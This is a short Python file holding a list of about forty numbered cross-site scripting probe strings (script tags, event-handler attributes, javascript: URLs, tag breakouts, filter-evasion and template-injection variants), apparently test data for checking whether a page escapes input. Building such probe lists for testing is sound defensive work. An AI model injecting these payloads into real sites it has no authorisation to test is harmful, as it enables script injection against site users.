"""Forty texts that a careless page would run as script; {n} is a number that says which one did."""

PAYLOADS = r"""
<script>alert({n})</script>
<img src=x onerror=alert({n})>
<svg onload=alert({n})>
"><script>alert({n})</script>
'><img src=x onerror=alert({n})>
<body onload=alert({n})>
<iframe src=javascript:alert({n})>
javascript:alert({n})
<a href=javascript:alert({n})>x</a>
<input autofocus onfocus=alert({n})>
<details open ontoggle=alert({n})>
<video><source onerror=alert({n})>
<math><mtext><script>alert({n})</script>
{{7*7}}alert({n})
${alert({n})}
<%= alert({n}) %>
</title><script>alert({n})</script>
</textarea><script>alert({n})</script>
</option></select><svg onload=alert({n})>
" onmouseover=alert({n}) x="
' onfocus=alert({n}) autofocus x='
<style>@import 'javascript:alert({n})'</style>
<link rel=stylesheet href=javascript:alert({n})>
<meta http-equiv=refresh content='0;url=javascript:alert({n})'>
<object data=javascript:alert({n})>
<embed src=javascript:alert({n})>
<form action=javascript:alert({n})><button>x</form>
<marquee onstart=alert({n})>
&lt;script&gt;alert({n})&lt;/script&gt;
&#60;script&#62;alert({n})&#60;/script&#62;
<scr<script>ipt>alert({n})</scr</script>ipt>
<SCRIPT>alert({n})</SCRIPT>
<img/src=x/onerror=alert({n})>
<svg><animate onbegin=alert({n}) attributeName=x>
<x onclick=alert({n})>click
<base href=javascript:alert({n})//>
<!--<img src=x onerror=alert({n})>-->
]]><script>alert({n})</script>
\"-alert({n})-\"
<noscript><p title="</noscript><img src=x onerror=alert({n})>">
""".strip().splitlines()
